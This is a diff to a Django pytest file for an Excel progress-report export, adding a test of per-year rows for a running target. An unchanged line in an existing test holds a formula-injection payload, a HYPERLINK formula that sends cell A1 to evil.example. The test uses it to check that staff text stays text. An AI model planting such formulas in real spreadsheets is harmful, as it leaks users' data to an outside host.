@@ -1,5 +1,6 @@
 """A plan's progress report in Excel: target against actual, per target and year, with status."""
 
+import datetime
 from io import BytesIO
 
 import pytest
@@ -8,6 +9,7 @@ from openpyxl import load_workbook
 
 from accounts.models import User
 from plans.models import Plan, Target
+from plans.services import progress_recompute
 from tests.factories import logged_in
 
 pytestmark = pytest.mark.django_db
@@ -103,3 +105,13 @@ def test_text_typed_by_staff_stays_text_and_word_s_line_breaks_do_not_break_the_
         assert all(cell.data_type != "f" for cell in cells)
     wordings = [row[1] for row in book["Tiến độ"].iter_rows(min_row=6, values_only=True)]
     assert wordings[:2] == ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "Thành lập mới150 HTX"]
+
+
+def test_past_years_of_a_running_term_target_are_on_the_path_in_the_by_year_sheet(client):
+    plan = Plan.objects.get(title__startswith=BAC_GIANG)
+    progress_recompute(targets=plan.targets.all(), today=datetime.date(2025, 6, 30))
+    sheet = report(logged_in(client, "lanhdao"), plan)["Theo năm"]
+    loans = [row for row in sheet.iter_rows(min_row=6, values_only=True) if "khoảng 250 dự án" in row[1]]
+    assert [row[2] for row in loans] == [2020, 2021, 2022, 2023, 2024, 2025]
+    assert [row[5] for row in loans[:5]] == [pytest.approx(250 * n / 6, abs=0.01) for n in range(1, 6)]
+    assert "Không đạt" not in {row[6] for row in loans}  # the term is not over
